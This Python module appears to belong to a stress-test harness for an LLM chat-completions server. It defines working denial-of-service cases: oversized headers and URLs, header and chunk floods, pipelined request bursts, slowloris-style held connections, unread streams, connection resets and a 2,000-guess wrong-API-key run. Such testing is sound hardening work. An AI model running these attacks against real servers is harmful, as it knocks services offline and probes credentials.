"""What can be done to the server before it has a whole request, most of it without a key."""

import asyncio
from collections import Counter
from collections.abc import Iterator

from .attack import CHAT, MODEL, Attack, Outcomes, Send, Target, connect, exchange, head, raw, read_to_end, status_of

HELD_S = 40.0
"""How long a connection is kept that sends nothing more, or next to nothing."""
_CHUNK = 1 << 16
_BODY = b'{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"a"}]}'


def _repeated(start: bytes, piece: bytes, size: int, end: bytes = b"") -> Iterator[bytes]:
    yield start
    for _ in range(size // len(piece)):
        yield piece
    yield end


def _one_header(size: int) -> Send:
    start = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nX-A: "
    return raw(lambda _: _repeated(start, b"a" * _CHUNK, size))


def _url(size: int) -> Send:
    return raw(lambda _: _repeated(b"GET /", b"a" * _CHUNK, size))


def _headers(count: int) -> Send:
    return raw(lambda _: _repeated(b"GET /health HTTP/1.1\r\nHost: x\r\n", b"X-A: b\r\n" * 1000, 8 * count))


def _chunks(size: int) -> Send:
    """A body in chunks of one byte each, written at once."""
    start = head(CHAT, 0).replace(b"Content-Length: 0", b"Transfer-Encoding: chunked")
    return raw(lambda _: _repeated(start, b"1\r\n \r\n" * 10_000, 6 * size, b"0\r\n\r\n"))


def _pipelined(request: bytes, count: int) -> Send:
    """Many requests on one connection, sent without reading."""
    return raw(lambda _: [request * count + b"GET /health/live HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"])


def held(count: int, start: bytes, drip: bytes = b"") -> Send:
    """Connections that send `start`, then `drip` each second. Counts those that the server left open."""

    async def send(target: Target) -> Outcomes:
        return Counter(await asyncio.gather(*[_hold(target.port, start, drip) for _ in range(count)]))

    return send


async def _hold(port: int, start: bytes, drip: bytes) -> str:
    try:
        reader, writer = await asyncio.wait_for(connect(port), HELD_S)
    except (TimeoutError, OSError):
        return "refused"
    answering = asyncio.create_task(read_to_end(reader))
    try:
        writer.write(start)
        for _ in range(int(HELD_S)):
            if (await asyncio.wait([answering], timeout=1))[0]:
                return status_of(answering.result())
            writer.write(drip)
    except OSError:
        return "closed"
    finally:
        answering.cancel()
        writer.close()
    return f"open after {HELD_S:.0f} s"


def _unread(count: int) -> Send:
    """Streams that the client never reads."""
    body = b'{"model":"m","stream":true,"ignore_eos":true,"logprobs":true,"messages":[{"role":"user","content":"a"}]}'

    async def one(port: int) -> str:
        _, writer = await connect(port)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(head(CHAT, len(body)) + body)
        await asyncio.sleep(HELD_S / 2)
        writer.transport.abort()
        return "left"

    async def send(target: Target) -> Outcomes:
        return Counter(await asyncio.gather(*[one(target.port) for _ in range(count)]))

    return send


def _churn(count: int, start: bytes) -> Send:
    """Connections that are reset after `start`, one after the other."""

    async def send(target: Target) -> Outcomes:
        for _ in range(count):
            _, writer = await connect(target.port)
            writer.write(start)
            await asyncio.sleep(0)
            writer.transport.abort()
        return Outcomes({"left": count})

    return send


def _wrong_keys(count: int, at_once: int) -> Send:
    async def send(target: Target) -> Outcomes:
        rest, outcomes = iter(range(count)), Outcomes()

        async def client() -> None:
            for number in rest:
                outcomes[await exchange(target.port, [head(CHAT, len(_BODY), key=f"guess{number}") + _BODY])] += 1

        await asyncio.gather(*[client() for _ in range(at_once)])
        return outcomes

    return send


QUICK = (
    Attack("header-80M", _one_header(80_000_000)),
    Attack("url-60M", _url(60_000_000)),
    Attack("headers-1M", _headers(1_000_000)),
    Attack("chunks-1M", _chunks(1_000_000)),
    Attack("pipelined-health", _pipelined(b"GET /health/live HTTP/1.1\r\nHost: x\r\n\r\n", 2_000)),
    Attack("pipelined-unknown", _pipelined(b"GET /" + b"x" * 2000 + b" HTTP/1.1\r\nHost: x\r\n\r\n", 2_000)),
    Attack("pipelined-models", _pipelined(f"GET /v1/models/{MODEL} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), 2_000)),
)

HELD = (
    Attack("idle-2000", held(2000, b"")),
    Attack("slow-heads-500", held(500, b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nX-A: ", b"a")),
    Attack("stalled-bodies-100", held(100, head(CHAT, 4_000_000) + b" " * 3_999_000)),
    Attack("slow-bodies-100", held(100, head(CHAT, 100_000), b" ")),
    Attack("unread-streams", _unread(32)),
    Attack("resets-2000", _churn(2000, head(CHAT, len(_BODY)) + _BODY)),
    Attack("wrong-keys-2000", _wrong_keys(2000, 16)),
)

ATTACKS = (*QUICK, *HELD)
